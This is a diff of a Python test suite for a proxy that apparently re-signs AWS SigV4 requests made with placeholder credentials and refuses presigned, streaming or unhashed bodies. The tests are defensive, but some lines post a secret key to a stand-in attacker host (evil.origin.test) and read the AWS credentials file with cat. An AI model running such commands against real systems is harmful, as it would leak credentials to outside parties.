@@ -268,18 +268,15 @@ def test_a_command_has_a_moment_to_end_and_no_longer(net):
     assert base.eventually(lambda: "did not end in time" in str(listed(net)["lingers"]), 30), listed(net)["lingers"]
 
 
-def test_aws_is_signed_anew(net):
-    """curl signs with the placeholder; what the origin gets is what whoever has the key would have signed."""
-    empty = hashlib.sha256(b"").hexdigest()
-    sign = '--aws-sigv4 aws:amz:us-east-1:s3 -u "$AWS_ACCESS_KEY_ID:not-a-secret"'
-    assert net.curl(f'{sign} -H "x-amz-content-sha256: {empty}" "https://s3.origin.test/bucket/a%20key?list-type=2&prefix=b"') == "served"
+def check_signature(net, method, path, query, body_hash):
+    """What the origin got last is what whoever has the key would have signed."""
     fields = dict(l.split(": ", 1) for l in net.last("s3")[0].split("\r\n")[1:])
     fields = {k.lower(): v for k, v in fields.items()}
     given = re.fullmatch(r"AWS4-HMAC-SHA256 Credential=AKIDREAL/(\d+)/eu-test-1/s3/aws4_request, ?SignedHeaders=([\w;-]+), ?Signature=(\w+)",
                          fields["authorization"])
     assert given, fields["authorization"]
     date, names, signature = given.groups()
-    canonical = "\n".join(["GET", "/bucket/a%20key", "list-type=2&prefix=b", *[f"{n}:{fields[n]}" for n in names.split(";")], "", names, empty])
+    canonical = "\n".join([method, path, query, *[f"{n}:{fields[n]}" for n in names.split(";")], "", names, body_hash])
     scope = f"{date}/eu-test-1/s3/aws4_request"
     text = "\n".join(["AWS4-HMAC-SHA256", fields["x-amz-date"], scope, hashlib.sha256(canonical.encode()).hexdigest()])
     key = ("AWS4" + SIGNS).encode()
@@ -287,12 +284,50 @@ def test_aws_is_signed_anew(net):
         key = hmac.new(key, part.encode(), hashlib.sha256).digest()
     assert hmac.new(key, text.encode(), hashlib.sha256).hexdigest() == signature
     assert SIGNS not in net.last("s3")[0] and {"host", "x-amz-date"} <= set(names.split(";"))
+
+
+def test_aws_is_signed_anew(net):
+    """curl signs with the placeholder."""
+    empty = hashlib.sha256(b"").hexdigest()
+    sign = '--aws-sigv4 aws:amz:us-east-1:s3 -u "$AWS_ACCESS_KEY_ID:not-a-secret"'
+    assert net.curl(f'{sign} -H "x-amz-content-sha256: {empty}" "https://s3.origin.test/bucket/a%20key?list-type=2&prefix=b"') == "served"
+    check_signature(net, "GET", "/bucket/a%20key", "list-type=2&prefix=b", empty)
     before = len(net.got["s3"])
     got = json.loads(net.curl(f'{sign} "https://s3.origin.test/?X-Amz-Signature=0"'))
     assert got["reason"] == "credential_elsewhere" and "presigned" in got["message"] and len(net.got["s3"]) == before
+    got = json.loads(net.curl(f'{sign} -H "x-amz-content-sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD" -d x https://s3.origin.test/'))
+    assert got["reason"] == "credential_elsewhere" and "chunk by chunk" in got["message"] and len(net.got["s3"]) == before
     got = json.loads(net.curl(f'{sign} https://evil.origin.test/'))
     assert got["reason"] == "credential_elsewhere"
     assert placeholders(net)["aws"] in net.sh("cat $AWS_SHARED_CREDENTIALS_FILE")
+
+
+SIGNED = ('-H "authorization: AWS4-HMAC-SHA256 Credential=$AWS_ACCESS_KEY_ID/20261118/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, '
+          'Signature=00" -H "x-amz-date: 20261118T000000Z" -H "content-type: application/x-amz-json-1.0"')
+
+
+@pytest.mark.parametrize("words", ["--http1.1", "--http2", '--http1.1 -H "expect: 100-continue"'])
+@pytest.mark.parametrize("size", [10, 150000])
+def test_a_body_whose_hash_the_client_does_not_say(net, words, size):
+    """As clients of all services but S3: the request waits for its body, whose hash is signed."""
+    body = b"b" * size
+    assert net.sh(f"head -c {size} /dev/zero | tr '\\0' b | curl -sS -m 60 {words} {SIGNED} -d @- https://s3.origin.test/") == "served"
+    assert net.last("s3")[1] == body
+    check_signature(net, "POST", "/", "", hashlib.sha256(body).hexdigest())
+
+
+@pytest.mark.parametrize("size, words", [(300000, ""), (10, '-H "transfer-encoding: chunked"')])
+def test_one_that_is_long_or_of_no_length_is_refused_with_words(net, size, words):
+    before = len(net.got.get("s3", []))
+    got = json.loads(net.sh(f"head -c {size} /dev/zero | tr '\\0' b | curl -sS -m 60 {words} {SIGNED} -d @- https://s3.origin.test/"))
+    assert got["reason"] == "credential_elsewhere" and "x-amz-content-sha256" in got["message"] and len(net.got.get("s3", [])) == before
+
+
+def test_the_secret_of_a_key_does_not_leave(net):
+    """Of KEY_ID:SECRET, the secret alone is searched for."""
+    got = json.loads(net.curl(f"-d 'it is {SIGNS}' https://evil.origin.test/"))
+    assert got["reason"] == "secret_leaving"
+    assert net.curl("-d 'it is AKIDREAL' https://evil.origin.test/") == "served"  # the control: the id says nothing
 
 
 def test_git_asks_its_helper(net):
